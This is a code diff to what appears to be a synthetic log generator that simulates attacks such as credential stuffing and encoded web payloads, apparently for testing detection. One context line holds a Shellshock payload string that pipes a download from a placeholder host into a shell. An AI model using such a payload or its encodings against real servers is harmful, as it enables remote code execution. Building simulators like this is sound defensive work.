@@ -450,13 +450,17 @@ def _credential_stuffing(g, rng, t0, ctx):
     ua = rng.choice(UAS + ["python-requests/2.32", "Go-http-client/1.1"])
     status = rng.choice([401, 403])
     t = t0
+    hits = []
     for _ in range(n):
         user = f"{rng.choice(['cd', 'nguyen', 'tran', 'le', 'user'])}{rng.randint(1000, 999999)}"
         hit = rng.random() < 0.02
+        if hit:
+            hits.append(user)
         g.http(t, src, "POST", LOGIN_PATH, 302 if hit else status, 320, ua)
         g.auth(t, "srv-web", "portal", "success" if hit else "failure", user, src)
         t += gap * rng.uniform(0.5, 1.5)
-    return Injected("credential_stuffing", {"attempts": n, "gap_s": gap, "status": status}, src, [src],
+    return Injected("credential_stuffing", {"attempts": n, "gap_s": gap, "status": status, "compromised": hits},
+                    src, [src],
                     WEB_SERVER, "T1110.004", ["T1110.004"], t0, t)
 
 
@@ -556,8 +560,11 @@ SHELLSHOCK = "() { :; }; /bin/bash -c 'curl http://{h}/x|sh'"
 
 
 def _encode_web(rng: random.Random, text: str, how: str) -> str:
+    """``text`` encoded one way; spaces always end up encoded (a request target has none)."""
     from urllib.parse import quote
 
+    if how in ("html", "unicode", "unicode_backslash"):
+        text = text.replace(" ", "%20")
     if how == "url":
         return quote(text, safe="")
     if how == "double_url":
